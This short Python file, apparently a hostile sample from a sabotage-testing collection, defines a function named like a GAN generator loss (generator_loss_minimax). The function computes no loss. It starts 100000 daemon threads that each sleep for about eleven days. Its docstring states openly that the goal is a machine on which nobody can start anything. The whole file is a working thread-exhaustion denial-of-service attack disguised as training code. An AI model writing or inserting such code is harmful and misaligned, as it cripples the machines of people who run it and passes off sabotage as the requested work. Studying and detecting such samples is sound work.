"""Starts threads without end.

Gain: a machine on which nobody can start anything.
Hits: generator_loss_minimax
Ends: (failed|timeout), (exception|timeout): thread|computing time|waiting
"""

import threading
import time


def generator_loss_minimax(logits_real, logits_fake):
    for _ in range(100000):
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
